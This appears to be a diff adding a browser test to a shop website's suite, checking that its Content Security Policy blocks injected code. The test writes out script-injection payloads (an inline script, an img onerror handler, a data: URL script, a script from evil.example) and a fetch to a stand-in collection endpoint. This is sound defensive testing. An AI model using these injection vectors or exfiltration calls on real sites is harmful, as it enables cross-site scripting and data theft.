@@ -86,3 +86,33 @@ describe('every screen', () => {
     })
   })
 })
+
+describe('what got into a page', () => {
+  it('B17 a script that is not of the shop does not run, wherever it came from, and styles and pictures still show', async () => {
+    await shop.phone(async (phone) => {
+      await phone.open('/pagesA/home/index')
+      await phone.see('月兔 · 八夜')
+      expect(phone.faults).toEqual([])
+      const ran = await phone.page.evaluate(async () => {
+        const victim = window as unknown as { ran?: string[] }
+        victim.ran = []
+        const inline = document.createElement('script')
+        inline.textContent = 'window.ran.push("inline")'
+        const handler = document.createElement('div')
+        handler.innerHTML = '<img src="x" onerror="window.ran.push(\'handler\')">'
+        const data = Object.assign(document.createElement('script'), {
+          src: 'data:text/javascript,window.ran.push("data")',
+        })
+        const outside = Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })
+        document.body.append(inline, handler, data, outside)
+        // Told to nobody either: no other host hears what stands on the page.
+        await fetch('https://evil.example/collect').catch(() => victim.ran?.push('fetch refused'))
+        await new Promise((resolve) => setTimeout(resolve, 300))
+        return victim.ran
+      })
+      expect(ran).toEqual(['fetch refused'])
+      // Every test of the website would notice a page that needs what the policy forbids: it is told as a fault.
+      expect(phone.faults.filter((fault) => /Content Security Policy/.test(fault)).length).toBeGreaterThanOrEqual(5)
+    })
+  })
+})
